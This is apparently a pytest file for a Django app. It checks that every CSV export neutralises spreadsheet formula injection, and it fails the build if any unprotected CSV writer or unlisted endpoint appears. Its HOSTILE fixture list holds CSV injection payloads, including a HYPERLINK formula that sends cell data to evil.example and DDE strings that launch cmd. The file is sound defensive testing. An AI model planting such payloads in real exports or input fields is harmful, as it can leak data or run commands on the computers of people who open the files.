"""Route 7: no CSV that Candour writes can carry a formula into a spreadsheet.

The sweep finds every URL that serves a .csv file, downloads each one with hostile
names and texts seeded wherever an organisation can type them, and checks that no
cell begins with a formula character. A new CSV endpoint fails the sweep until it is
added here, and a new csv.writer outside the shared safe writer fails the source check.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from candour.core.safe_csv import FORMULA_STARTS, safe_cell
from candour.core.services import create_team
from candour.surveys import services as surveys
from candour.surveys.tests.helpers import add_staff, full_answers
from conftest import World, signed_in_client

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Files written only to be read straight back by Candour's own importer, never served.
_INTERNAL_WRITERS = {
    "candour/workforce/entry/views.py",  # one hand-typed row, imported at once
    "candour/demo/workforce.py",  # demo import files
}
_SOURCE = Path(__file__).resolve().parents[2] / "candour"


def _routes(resolver: URLResolver, prefix: str = "") -> Iterator[tuple[str, str | None]]:
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            namespace = entry.namespace or ""
            yield from (
                (route, f"{namespace}:{name}" if namespace and name else name)
                for route, name in _routes(entry, prefix + str(entry.pattern))
            )
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry.name


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


def _survey_results(world: World) -> tuple[Client, str]:
    """A closed survey wave whose team names and own questions are all hostile."""
    teams = [
        create_team(actor=world.admin, organisation=world.riverside, name=name)
        for name in HOSTILE[:3]
    ]
    people = [person for i, team in enumerate(teams) for person in add_staff(team, 5, f"h{i}x")]
    opened = surveys.open_wave(
        actor=world.admin,
        organisation=world.riverside,
        title='=HYPERLINK("https://evil.example")',
        teams=teams,
        closes_on=timezone.localdate() + timedelta(days=14),
        extra_questions=HOSTILE[:5],
    )
    for person in people:
        answers = full_answers(agree=5)
        answers.update({f"extra_{n}": "5" for n in range(1, 6)})
        surveys.submit_answers(token=opened.tokens[person.pk], data=answers)
    wave = surveys.close_wave(actor=world.admin, wave=opened.wave)
    return signed_in_client(world.analyst), reverse("surveys:results-csv", args=[wave.pk])


def _open_library(world: World) -> tuple[Client, str]:
    """Lessons published openly whose titles and words are hostile, read by anyone."""
    from candour.learning.lessons import services as lessons
    from candour.learning.library import services as library
    from candour.learning.library.content import open_copy
    from candour.reporting.tests.factories import reviewed_report

    for hostile in HOSTILE[:3]:
        lesson = lessons.publish_lesson(
            actor=world.analyst,
            lesson=lessons.save_lesson(
                actor=world.analyst,
                organisation=world.riverside,
                reports=[reviewed_report(world)],
                title=hostile,
                story="A visit went ahead without the child being seen.",
                commentary=hostile,
                action_taken="Visits are spaced.",
            ),
        )
        digest = open_copy(lesson, today=timezone.localdate()).digest
        library.publish_openly(actor=world.analyst, lesson=lesson, previewed=digest)
    return Client(), reverse("learning:library-csv")


def _open_bulletins(world: World) -> tuple[Client, str]:
    """A bulletin published openly whose title, introduction and lessons are hostile."""
    from candour.learning.lessons import services as lessons
    from candour.learning.library import services as library
    from candour.learning.library.open_bulletins import open_bulletin_copy
    from candour.reporting.tests.factories import reviewed_report

    lessons.publish_lesson(
        actor=world.analyst,
        lesson=lessons.save_lesson(
            actor=world.analyst,
            organisation=world.riverside,
            reports=[reviewed_report(world)],
            title=HOSTILE[2],
            story="A visit went ahead without the child being seen.",
            commentary="Visits were back to back.",
            action_taken="Visits are spaced.",
        ),
    )
    today = timezone.localdate()
    bulletin = lessons.publish_bulletin(
        actor=world.analyst,
        organisation=world.riverside,
        title=HOSTILE[0],
        period_start=today - timedelta(days=7),
        period_end=today,
        introduction=HOSTILE[1],
    )
    digest = open_bulletin_copy(bulletin, today=today).digest
    library.publish_bulletin_openly(actor=world.analyst, bulletin=bulletin, previewed=digest)
    return Client(), reverse("learning:library-bulletins-csv")


def _coded_reports(world: World) -> tuple[Client, str]:
    """Themes with hostile names over a reviewed report, in the learning team's download."""
    from candour.learning.themes.services import create_theme
    from candour.reporting.tests.factories import reviewed_report

    report = reviewed_report(world)
    for hostile in HOSTILE[:3]:
        create_theme(
            actor=world.analyst, organisation=world.riverside, name=hostile, reports=[report]
        )
    return signed_in_client(world.analyst), reverse("learning:export", args=["themes", "csv"])


def _ideas(world: World) -> tuple[Client, str]:
    """Ideas whose words are hostile, in the managers' download."""
    from candour.ideas.tests.factories import submit

    for hostile in HOSTILE[:3]:
        submit(world, problem=hostile)
    return signed_in_client(world.manager), reverse("ideas:export", args=["csv"])


# Every CSV download, by URL name, with the set-up that fills it with hostile text.
CSV_ENDPOINTS: dict[str, Callable[[World], tuple[Client, str]]] = {
    "surveys:results-csv": _survey_results,
    "learning:library-csv": _open_library,
    "learning:library-bulletins-csv": _open_bulletins,
    "learning:export": _coded_reports,
    "ideas:export": _ideas,
}


def test_every_csv_endpoint_is_in_the_sweep() -> None:
    """A route serving CSV: .csv in its path or name, or a file format chosen in its path."""
    served = {
        name
        for route, name in _routes(get_resolver())
        if ".csv" in route or "csv" in (name or "") or "<slug:file_format>" in route
    }
    assert served == set(CSV_ENDPOINTS)


@pytest.mark.parametrize("name", sorted(CSV_ENDPOINTS))
def test_no_downloaded_cell_starts_a_formula(world: World, name: str) -> None:
    client, url = CSV_ENDPOINTS[name](world)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = _cells(response.content)
    for hostile in HOSTILE[:3]:
        assert "'" + hostile in cells  # the hostile text is there, made inert
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_ordinary_values_are_unchanged() -> None:
    assert safe_cell("Assessment team") == "Assessment team"
    assert safe_cell(-3) == -3
    assert safe_cell("72%") == "72%"
    assert safe_cell("=1+1") == "'=1+1"


def test_no_csv_writer_outside_the_safe_one() -> None:
    writers = {
        str(path.relative_to(_SOURCE.parent))
        for path in _SOURCE.rglob("*.py")
        if "/tests/" not in str(path)
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    }
    assert writers == {"candour/core/safe_csv.py", *_INTERNAL_WRITERS}
